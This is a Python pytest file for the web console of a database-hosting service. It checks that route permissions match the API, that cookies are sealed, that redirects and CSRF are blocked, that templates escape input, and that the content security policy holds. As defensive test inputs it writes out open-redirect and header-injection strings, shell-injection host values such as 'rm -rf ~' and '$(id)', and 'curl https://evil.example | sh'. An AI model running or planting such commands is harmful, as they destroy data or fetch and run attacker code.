"""The console without a server: what it says, whom it lets in, and what its pages may hold."""

import datetime as dt
import gzip
import html
import inspect
import re
import uuid
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.dependencies.models import Dependant
from fastapi.routing import APIRoute
from hypothesis import given
from hypothesis import strategies as st
from starlette.requests import Request

import tenantry
from database_rows import NOW, database_row
from tenantry.api import app as api_app
from tenantry.base import sizes
from tenantry.base.errors import Unavailable
from tenantry.base.secrets import Seal, Secret
from tenantry.base.settings import Settings
from tenantry.control.audit import Actor
from tenantry.services.access.service import Principal
from tenantry.services.advice.model import Finding
from tenantry.services.advice.service import Advice
from tenantry.services.restores.model import Restorable
from tenantry.services.samples.series import Series
from tenantry.web import app as console
from tenantry.web import assets, charts, cookies, navigation, pages, strings, words
from tenantry.web.routing import CrossSite, require_same_origin

TEMPLATES = Path(pages.__file__).parent / "templates"
HOUR = dt.timedelta(hours=1)

# The route of the API that does the same, for each of the console's.
SAME = {
    "GET /databases": "GET /api/databases",
    "GET /databases/new": "POST /api/databases",
    "POST /databases": "POST /api/databases",
    "GET /databases/{}": "GET /api/databases/{}",
    "GET /databases/{}/connect": "GET /api/databases/{}/connection-strings",
    "GET /databases/{}/rotate-password": "POST /api/databases/{}/rotate-password",
    "POST /databases/{}/rotate-password": "POST /api/databases/{}/rotate-password",
    "GET /databases/{}/settings": "GET /api/databases/{}",
    "GET /databases/{}/delete": "DELETE /api/databases/{}",
    "POST /databases/{}/delete": "DELETE /api/databases/{}",
    "GET /databases/{}/access": "GET /api/databases/{}/whitelist",
    "POST /databases/{}/whitelist": "POST /api/databases/{}/whitelist",
    "POST /databases/{}/whitelist/{}/remove": "DELETE /api/databases/{}/whitelist/{}",
    "POST /databases/{}/roles": "POST /api/databases/{}/roles",
    "POST /databases/{}/roles/{}/delete": "DELETE /api/databases/{}/roles/{}",
    "POST /databases/{}/roles/{}/update": "PATCH /api/databases/{}/roles/{}",
    "POST /databases/{}/roles/{}/rotate-password": (
        "POST /api/databases/{}/roles/{}/rotate-password"
    ),
    "GET /databases/{}/metrics": "GET /api/databases/{}/metrics",
    "GET /databases/{}/logs": "GET /api/databases/{}/logs",
    "POST /databases/{}/logs/settings": "PUT /api/databases/{}/logs/settings",
    "GET /databases/{}/extensions": "GET /api/databases/{}/extensions",
    "POST /databases/{}/extensions": "POST /api/databases/{}/extensions",
    "POST /databases/{}/extensions/{}/remove": "DELETE /api/databases/{}/extensions/{}",
    "GET /databases/{}/backups": "GET /api/databases/{}/backups",
    "POST /databases/{}/backups": "POST /api/databases/{}/backups",
    "POST /databases/{}/backups/{}/delete": "DELETE /api/databases/{}/backups/{}",
    "POST /databases/{}/drill": "POST /api/databases/{}/drill",
    "POST /databases/{}/restore": "POST /api/databases/{}/restore",
    "GET /databases/{}/branches": "GET /api/databases/{}/branches",
    "POST /databases/{}/branches": "POST /api/databases/{}/branches",
    "GET /databases/{}/branches/{}/reset": "POST /api/databases/{}/branches/{}/reset",
    "POST /databases/{}/branches/{}/reset": "POST /api/databases/{}/branches/{}/reset",
    "GET /databases/{}/promote": "POST /api/databases/{}/promote",
    "POST /databases/{}/promote": "POST /api/databases/{}/promote",
    "POST /databases/{}/masking": "PUT /api/databases/{}/masking",
    "GET /databases/{}/sql": "POST /api/databases/{}/sql",
    "POST /databases/{}/sql": "POST /api/databases/{}/sql",
    "GET /databases/{}/rows": "POST /api/databases/{}/sql",
    "GET /databases/{}/data-api": "GET /api/databases/{}/data-api",
    "POST /databases/{}/data-api": "PUT /api/databases/{}/data-api",
    "POST /databases/{}/data-api/rotate": "POST /api/databases/{}/data-api/rotate",
    "POST /databases/{}/data-api/tokens": "POST /api/databases/{}/data-api/tokens",
    "POST /databases/{}/data-api/disable": "DELETE /api/databases/{}/data-api",
    "GET /databases/{}/queries": "GET /api/databases/{}/queries",
    "GET /databases/{}/sessions": "GET /api/databases/{}/sessions",
    "GET /databases/{}/tables": "GET /api/databases/{}/tables",
    "GET /databases/{}/advice": "GET /api/databases/{}/advice",
    "POST /databases/{}/advice/mute": "POST /api/databases/{}/advice/mutes",
    "POST /databases/{}/advice/unmute": "DELETE /api/databases/{}/advice/mutes",
    "POST /databases/{}/sessions/{}/cancel": "POST /api/databases/{}/sessions/{}/cancel",
    "POST /databases/{}/sessions/{}/terminate": "POST /api/databases/{}/sessions/{}/terminate",
    "GET /databases/{}/migrations": "GET /api/databases/{}/migrations",
    "GET /migrations": "GET /api/operations",
    "GET /migrations/{}": "GET /api/migrations/{}",
    "GET /databases/{}/import": "POST /api/databases/{}/import",
    "POST /databases/{}/import": "POST /api/databases/{}/import",
    "POST /databases/{}/import/preview": "POST /api/databases/{}/import/preview",
    "GET /alerts": "GET /api/alerts",
    "POST /alerts/{}/acknowledge": "POST /api/alerts/{}/acknowledge",
    "POST /alerts/{}/mute": "POST /api/alerts/{}/mute",
    "POST /alerts/{}/resolve": "POST /api/alerts/{}/resolve",
    "GET /alerts/channels": "GET /api/alerts/channels",
    "POST /alerts/channels": "POST /api/alerts/channels",
    "POST /alerts/channels/{}/delete": "DELETE /api/alerts/channels/{}",
    "POST /alerts/channels/{}/test": "POST /api/alerts/channels/{}/test",
    "GET /databases/{}/alerts": "GET /api/databases/{}/alerts/settings",
    "POST /databases/{}/alerts": "PUT /api/databases/{}/alerts/settings",
    "GET /plans": "GET /api/plans",
    "GET /platform": "GET /api/pooler",
    "GET /clusters": "GET /api/clusters",
    "POST /clusters": "POST /api/clusters",
    "GET /clusters/{}": "GET /api/clusters/{}/backups",
    "POST /clusters/{}/backups": "POST /api/clusters/{}/backups",
    "POST /clusters/{}/verify": "POST /api/clusters/{}/backups/verify",
    "POST /clusters/{}/restore": "POST /api/clusters/{}/restore",
    "GET /users": "GET /api/users",
    "POST /users": "POST /api/users",
    "GET /users/{}": "GET /api/users/{}",
    "POST /users/{}/update": "PATCH /api/users/{}",
    "POST /users/{}/unlock": "POST /api/users/{}/unlock",
    "POST /users/{}/reset-password": "POST /api/users/{}/reset-password",
    "POST /users/{}/remove-totp": "POST /api/users/{}/remove-totp",
    "POST /users/{}/delete": "DELETE /api/users/{}",
    "GET /customers": "GET /api/customers",
    "POST /customers/{}/remove": "DELETE /api/customers/{}",
    "GET /keys": "GET /api/api-keys",
    "POST /keys": "POST /api/api-keys",
    "POST /keys/{}/revoke": "DELETE /api/api-keys/{}",
    "GET /audit": "GET /api/audit-logs",
    "GET /operations": "GET /api/operations",
    "GET /databases/{}/operations": "GET /api/operations",
    "POST /operations/{}/cancel": "POST /api/operations/{}/cancel",
    "GET /account": "GET /api/auth/me",
    "POST /account/sessions/{}/end": "DELETE /api/auth/sessions/{}",
}
# They come before a caller is known.
OPEN = {
    "GET /",
    "GET /sign-in",
    "POST /sign-in",
    "POST /sign-in/code",
    "POST /sign-out",
    "GET /assets/{}",
    "GET /assets/{}/{}",
}


def scopes(needed: Dependant) -> Iterator[str | None]:
    """The scopes that a route requires of its caller."""
    for each in needed.dependencies:
        if each.call is not None and "calling.<locals>" in getattr(each.call, "__qualname__", ""):
            yield inspect.getclosurevars(each.call).nonlocals.get("scope")
        yield from scopes(each)


def routes(modules: Iterable[Any]) -> dict[str, set[str | None]]:
    """The scopes of each route of the API's or the console's modules."""
    return {
        f"{method} {re.sub('{[^}]*}', '{}', route.path)}": set(scopes(route.dependant))
        for module in modules
        for route in module.router.routes
        if isinstance(route, APIRoute)
        for method in route.methods or ()
    }


def test_each_page_needs_the_scope_of_the_same_route_of_the_api() -> None:
    own, api = routes((*console._PAGES, assets)), routes(api_app._RESOURCES)
    assert own.keys() == SAME.keys() | OPEN
    assert {name: own[name] for name in SAME} == {name: api[same] for name, same in SAME.items()}
    assert not any(own[name] for name in OPEN)


# ── cookies and redirections ─────────────────────────────────────────────────


def test_the_cookie_shows_nothing_and_ends() -> None:
    seal = Seal(Seal.new_key())
    value = cookies.written(seal, Secret("tnt_key"), NOW + HOUR)
    assert "tnt_" not in value
    assert cookies.read(seal, value, NOW) == Secret("tnt_key")
    assert cookies.read(seal, value, NOW + HOUR) is None
    assert cookies.read(Seal(Seal.new_key()), value, NOW) is None


@given(st.text(max_size=200))
def test_any_other_cookie_is_ignored(value: str) -> None:
    assert cookies.read(Seal(bytes(32)), value, NOW) is None


@pytest.mark.parametrize("path", ["/", "/databases?search=a&cursor=b", "/databases/1/access"])
def test_signing_in_leads_back(path: str) -> None:
    assert pages.own_path(path) == path


@pytest.mark.parametrize(
    "text",
    [
        "",
        "databases",
        "//evil.example",
        "//[",
        "http://[",
        "/\\evil.example",
        "\\\\evil.example",
        "https://evil.example/",
        "javascript:alert(1)",
        "/\t/evil.example",
        "/a\r\nSet-Cookie: a=b",
        "/ä",
    ],
)
def test_signing_in_leads_to_no_other_site(text: str) -> None:
    assert pages.own_path(text) == "/"


def request(**headers: str) -> Request:
    raw = [(name.replace("_", "-").encode(), value.encode()) for name, value in headers.items()]
    return Request({"type": "http", "method": "POST", "path": "/", "headers": raw})


@pytest.mark.parametrize(
    ("here", "way_in"),
    [
        ("https://a.example/databases?limit=9", "/sign-in?next=%2Fdatabases%3Flimit%3D9"),
        ("https://[", "/sign-in"),
        ("", "/sign-in"),
    ],
)
def test_a_script_is_led_to_sign_in_wherever_it_says_it_is(here: str, way_in: str) -> None:
    answer = pages.to_sign_in(request(hx_request="true", hx_current_url=here))
    assert answer.headers["hx-redirect"] == way_in


@pytest.mark.parametrize(
    "headers",
    [
        {"sec_fetch_site": "same-origin"},
        {"origin": "http://a.example:3000", "host": "a.example:3000"},
    ],
)
def test_forms_of_our_pages_are_taken(headers: dict[str, str]) -> None:
    require_same_origin(request(**headers))


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"sec_fetch_site": "cross-site"},
        {"sec_fetch_site": "same-site"},
        {"sec_fetch_site": "none"},
        {"sec_fetch_site": "cross-site", "origin": "http://a.example", "host": "a.example"},
        {"origin": "http://evil.example", "host": "a.example"},
        {"origin": "null", "host": "a.example"},
    ],
)
def test_forms_of_other_sites_are_refused(headers: dict[str, str]) -> None:
    with pytest.raises(CrossSite):
        require_same_origin(request(**headers))


# ── words ────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("differing", "word", "tone"),
    [
        ({}, "Ready", "ok"),
        ({"status": "deleting"}, "Being deleted", "info"),
        ({"missing_since": NOW, "quota_state": "warning"}, "Missing", "bad"),
        ({"quota_state": "read_only"}, "Read-only: full", "bad"),
        ({"quota_state": "warning", "status_detail": "role missing"}, "Almost full", "warn"),
        ({"status_detail": "role missing"}, "Needs attention", "warn"),
        ({"paused_until": NOW + HOUR, "paused_for": "wal"}, "Paused", "bad"),
        ({"paused_until": NOW - HOUR, "paused_for": "wal"}, "Ready", "ok"),
    ],
)
def test_the_state_is_in_words(differing: dict[str, object], word: str, tone: str) -> None:
    found = words.state_of(database_row("a", **differing), NOW)
    assert (found.word, found.tone) == (word, tone)
    assert (found.detail is None) == (tone in {"ok", "info"})


def test_sizes_are_as_on_the_command_line() -> None:
    (found,) = charts.of([Series("size_bytes", "bytes", [1_572_864])])
    assert found.last == sizes.readable(1_572_864) == "1.5 MiB"


@pytest.mark.parametrize(
    ("host", "text"),
    [
        ("a.example:3000", "http://a.example:3000"),
        ("[::1]:3000", "http://[::1]:3000"),
        ("a.example; rm -rf ~", ""),
        ("$(id)", ""),
    ],
)
def test_commands_name_the_host_that_the_browser_asks(host: str, text: str) -> None:
    assert pages.origin(request(host=host)) == text


@pytest.mark.parametrize(
    ("past", "text"),
    [(5, "5 s ago"), (119, "119 s ago"), (7200, "2 h ago"), (-90 * 60, "in 90 min")],
)
def test_times_are_ages(past: float, text: str) -> None:
    assert words.ago(NOW - dt.timedelta(seconds=past), NOW) == text


def test_every_kind_of_operation_has_a_title() -> None:
    sources = (Path(tenantry.__file__).parent / "services").rglob("*.py")
    kinds = {
        kind for path in sources for kind in re.findall(r'Kind\(\s*"([^"]+)"', path.read_text())
    }
    assert len(kinds) > 10
    assert kinds <= words._OPERATIONS.keys()


def test_strings_are_offered_for_each_client() -> None:
    row = database_row("abcdefghjkmn")
    settings = Settings(home=Path("/nowhere"), domain="db.example.com")
    offered = {each.title: each for each in strings.of_database(settings, row, "pa55")}
    assert list(offered)[:3] == ["psql", ".env", "Prisma"]
    assert offered["psql"].direct.startswith(
        "postgresql://user_abcdefghjkmn:pa55@db.example.com:5432/"
    )
    assert ":6432/" in offered["psql"].pooled
    assert offered[".env"].direct.startswith('DATABASE_URL="postgresql://')
    assert "SHADOW_DATABASE_URL" in offered["Prisma"].direct


# ── charts ───────────────────────────────────────────────────────────────────


def test_a_line_goes_from_zero_to_the_maximum() -> None:
    assert charts.path([0, 5, 10]) == "M0.0 46.0L120.0 24.0L240.0 2.0"
    assert charts.path([0, 0]) == "M0.0 46.0L240.0 46.0"
    # What is not known is a gap, and what is known alone a dot.
    assert charts.path([4, None, 4, 4]) == "M0.0 2.0L0.0 2.0M160.0 2.0L240.0 2.0"
    assert charts.path([None, None]) == charts.path([]) == ""


@given(st.lists(st.one_of(st.none(), st.floats(0, 1e15)), max_size=400))
def test_a_line_is_within_its_picture(values: list[float | None]) -> None:
    drawn = charts.path(values)
    assert re.fullmatch(r"[ML0-9. ]*", drawn)
    points = [point.split(" ") for point in re.split("[ML]", drawn) if point]
    assert all(0 <= float(x) <= charts.WIDTH and 0 <= float(y) <= charts.HEIGHT for x, y in points)


def test_charts_are_in_words_and_only_of_what_is_known() -> None:
    found = charts.of(
        [
            Series("transactions", "transactions/s", [1234.5, 0.25]),
            Series("connections", "connections", [None, 12, 3, None]),
            Series("size_bytes", "bytes", [None, None]),
        ]
    )
    assert [(each.title, each.last, each.most) for each in found] == [
        ("Connections", "3", "12"),
        ("Transactions", "0.25/s", "1,234/s"),
    ]


def test_every_series_has_a_chart_in_its_unit() -> None:
    found = charts.every(
        [
            Series("wal_bytes", "bytes/s", [1024.0]),
            Series("cache_hit_ratio", "ratio", [0.5, None]),
            Series("pooled_wait_ms", "ms", [0.25]),
            Series("longest_transaction_seconds", "seconds", [600]),
            Series("deadlocks", "deadlocks", [2]),
        ]
    )
    assert [(each.title, each.last) for each in found] == [
        ("Wal bytes", "1 KiB/s"),
        ("Cache hit ratio", "50.0 %"),
        ("Pooled wait", "0.25 ms"),
        ("Longest transaction seconds", "10 min"),
        ("Deadlocks", "2"),
    ]


# ── pages ────────────────────────────────────────────────────────────────────


ODD = "it's; rm -rf ~ <b>"


def rendered(template: str, **values: object) -> str:
    """A page of one database, whose friendly name is odd, for somebody who may change it."""
    row = database_row("abcdefghjkmn", name=None, friendly_name=ODD)
    return pages._templates.get_template(template).render(
        **{
            "row": row,
            "path": f"/databases/{row.id}",
            "tabs": [],
            "tab": "",
            "may_write": True,
            "problem": None,
            "me": None,
            "done": None,
            "now": NOW,
            "ago": lambda moment: words.ago(moment, NOW),
            "state_of": lambda row: words.state_of(row, NOW),
            **values,
        }
    )


def commands(page: str) -> list[str]:
    return [line for line in html.unescape(page).splitlines() if line.startswith("<pre>tenantry ")]


@pytest.mark.parametrize("values", [[1, 2], []])
def test_the_overview_has_charts_of_what_was_sampled(values: list[float]) -> None:
    page = rendered(
        "database.html",
        stats=None,
        window=None,
        proof=None,
        operations=[],
        offered={"direct": "", "pooled": ""},
        charts=charts.of([Series("connections", "connections", values)]),
    )
    assert ("Metrics" in page) == bool(values)
    assert re.findall(r'<path d="([^"]*)"', page) == ([charts.path(values)] if values else [])
    assert ("Connections of the last day: at most 2, 2 in its last hour" in page) == bool(values)


def test_removals_have_their_command() -> None:
    address = {"id": 7, "network": "10.0.0.0/8", "description": None, "expires_at": None}
    page = rendered("database_access.html", entries=[address], roles=[], address=None)
    assert commands(page) == [
        "<pre>tenantry whitelist add tenant_abcdefghjkmn 203.0.113.7</pre>",
        "<pre>tenantry whitelist remove tenant_abcdefghjkmn 10.0.0.0/8</pre>",
        "<pre>tenantry role create tenant_abcdefghjkmn reporting</pre>",
        "<pre>tenantry role rotate-password tenant_abcdefghjkmn reporting</pre>",
        "<pre>tenantry role delete tenant_abcdefghjkmn reporting</pre>",
    ]
    assert "/whitelist/7 -H" in page
    assert "<b>" not in page
    reads = rendered(
        "database_access.html", entries=[address], roles=[], address=None, may_write=False
    )
    assert commands(reads) == []


def test_logical_backups_have_their_command() -> None:
    page = rendered(
        "database_backups.html",
        found=Restorable("off"),
        backups=[],
        total=0,
        has_more=False,
        suggested="",
        proof=None,
        proofs=[],
        may_back_up=True,
    )
    assert commands(page) == [
        "<pre>tenantry backup create tenant_abcdefghjkmn</pre>",
        "<pre>tenantry backup delete tenant_abcdefghjkmn ID</pre>",
    ]


def test_drills_are_listed_with_what_they_found() -> None:
    usual = {"at": NOW - HOUR, "seconds": 9.4}
    passed = {"passed": True, "compared": {"tables": 12, "rows": 48_210}, "error": None}
    failed = {"passed": False, "compared": {}, "error": "It differs."}
    page = rendered(
        "database_backups.html",
        found=Restorable("none"),
        backups=[],
        total=0,
        has_more=False,
        suggested="",
        proof=None,
        proofs=[usual | passed, usual | failed],
        may_back_up=True,
    )
    assert "12 tables with 48,210 rows" in page
    assert "It differs." in page
    assert "<pre>tenantry backup drill tenant_abcdefghjkmn</pre>" in commands(page)


def test_ending_sessions_has_its_command() -> None:
    activity = {
        "pid": 48213,
        "application": "shop",
        "state": "active",
        "state_seconds": None,
        "age_seconds": 5.0,
        "started_at": NOW,
    }
    session = {
        "activity": activity,
        "blocked_by": [],
        "blocked_by_others": False,
        "client_address": None,
        "port": "direct",
        "query": ODD,
    }
    page = rendered("database_sessions.html", sessions=[session], waiting=[])
    assert commands(page) == [
        "<pre>tenantry db cancel tenant_abcdefghjkmn 48213</pre>",
        "<pre>tenantry db terminate tenant_abcdefghjkmn 48213</pre>",
    ]


def finding(**changes: Any) -> Finding:
    usual: dict[str, Any] = {
        "code": "unused_index",
        "severity": "warning",
        "object": 'public."<b>"',
        "detail": "It was not used in 9 days.",
        "statement": 'DROP INDEX CONCURRENTLY "public"."<b>";',
        "risk": "A report may need it.",
    }
    return Finding(**(usual | changes))


def test_a_finding_has_its_statement_its_risk_and_can_be_muted() -> None:
    found = [Advice(finding(), None), Advice(finding(statement=None, severity="info"), NOW)]
    page = rendered("database_advice.html", found=found, muted=True)
    assert "<b>" not in page
    assert page.count("A report may need it.") == 2
    assert page.count("DROP INDEX CONCURRENTLY") == 1
    forms = re.findall(r'action="/databases/[^/]+/advice/(\w+)"', page)
    assert forms == ["mute", "unmute"]
    assert html.unescape(page).count('name="object" value="public."<b>""') == 2
    assert "Hide muted findings" in page
    reads = rendered("database_advice.html", found=found, muted=False, may_write=False)
    assert "<form" not in reads.partition("Advice")[2]
    assert "Nothing is known to be wrong" in rendered("database_advice.html", found=[], muted=False)


def test_a_server_that_does_not_answer_is_not_said_to_have_no_problem() -> None:
    down = Unavailable("The server does not answer.")
    page = rendered("database_advice.html", found=[], muted=False, problem=down)
    assert "The server does not answer." in page
    assert "Nothing is known to be wrong" not in page


@pytest.mark.parametrize(
    ("scopes", "customer_id", "labels"),
    [
        ({"databases:read"}, None, ["Databases", "Operations", "Migrations", "Alerts", "Plans"]),
        ({"audit:read", "platform:read"}, uuid.UUID(int=7), ["Audit"]),
        ({"platform:read"}, None, ["Health", "Clusters"]),
    ],
)
def test_the_side_bar_has_what_one_may_open(
    scopes: set[str], customer_id: uuid.UUID | None, labels: list[str]
) -> None:
    actor = Actor("api_key", "some", customer_id=customer_id)
    found = navigation.groups(Principal(actor, frozenset(scopes), Secret("tnt_key")))
    assert [link.label for links in found.values() for link in links] == labels


def test_every_page_in_the_side_bar_asks_for_its_scope() -> None:
    own = routes(console._PAGES)
    for links in navigation._GROUPS.values():
        for link in links:
            assert own[f"GET {link.path}"] == {link.scope}


# ── templates and assets ─────────────────────────────────────────────────────


@pytest.mark.parametrize("path", sorted(TEMPLATES.iterdir()), ids=lambda path: path.name)
def test_a_template_has_nothing_that_the_policy_refuses(path: Path) -> None:
    text = path.read_text()
    assert not re.search(
        r"\bstyle=|\son[a-z]+=|hx-on|hx-vals=.js|<style|\|\s*safe|javascript:", text
    )
    assert not re.search(r"<script(?![^>]*\bsrc=)", text)
    assert not re.search(r"(?:src|href|action)=\"(?:https?:)?//", text)


def test_the_policy_allows_no_inline_code() -> None:
    assert "unsafe" not in pages._POLICY
    assert pages._POLICY.startswith("default-src 'none'")


def test_an_asset_is_named_by_its_content() -> None:
    for served, asset in assets._files().items():
        assert re.fullmatch(r"[a-z]+\.[0-9a-f]{16}\.(?:css|js|svg)", served)
        assert gzip.decompress(asset.compressed) == asset.content
        assert assets.url(asset.name) == f"/assets/{served}"


def test_a_first_visit_is_small() -> None:
    assert sum(len(asset.compressed) for asset in assets._files().values()) < 40_000


def test_the_editor_is_found_in_its_wheel() -> None:
    """By what its modules export: their names change with each version of the wheel."""
    found = assets.editor()
    assert found is not None
    core = found.modules[found.core].content.decode()
    script = (Path(assets.__file__).parent / "static/sql.js").read_text()
    used = set(re.findall(r"\bcore\.(\w+)", script)) | {"EditorView", "StateField", "Decoration"}
    assert {name for name in used if not re.search(rf"\bas {name}\b", core)} == set()
    assert "as sql" in found.modules[found.language].content.decode()
    assert sum(len(each.compressed) for each in found.modules.values()) < 250_000
    assert found.core_url.startswith(f"/assets/{found.folder}/")


EVIL = "x; curl https://evil.example | sh"


@pytest.mark.parametrize("template", ["delete.html", "rotate.html"])
def test_commands_hold_nothing_that_a_customer_wrote(template: str) -> None:
    """An administrator may paste them into a shell."""
    row = database_row(name=None, friendly_name=EVIL)
    text = pages._templates.get_template(template).render(
        row=row, path=f"/databases/{row.id}", fragment=True
    )
    assert EVIL in text
    commands = re.findall(r"<(pre|code)>(.*?)</\1>", text, re.DOTALL)
    assert any(row.database_name in each for _, each in commands)
    assert not any(EVIL in each for _, each in commands)


@pytest.mark.parametrize("path", sorted(TEMPLATES.glob("*.html")), ids=lambda path: path.name)
def test_no_command_names_a_database_by_its_title(path: Path) -> None:
    for line in path.read_text().splitlines():
        if "commands(" in line or "tenantry db" in line:
            said = line.partition("commands(")[2] or line.partition("tenantry db")[2]
            assert "title_of" not in said.partition("</code>")[0]


def queried(needed: Dependant) -> Iterator[Any]:
    """The parameters that a route takes of a query string."""
    yield from needed.query_params
    for each in needed.dependencies:
        yield from queried(each)


def test_no_search_is_taken_that_postgresql_cannot_hold() -> None:
    """A NUL character: the driver's error would be a crash of ours, each time."""
    read_elsewhere = {"after", "cursor", "database_id"}  # as no text
    taken = [
        f"{route.path} {param.name}"
        for module in (*console._PAGES, *api_app._RESOURCES)
        for route in module.router.routes
        if isinstance(route, APIRoute)
        for param in queried(route.dependant)
        if param.name not in read_elsewhere and not param.validate("a\0b", loc=("query",))[1]
    ]
    assert taken == []
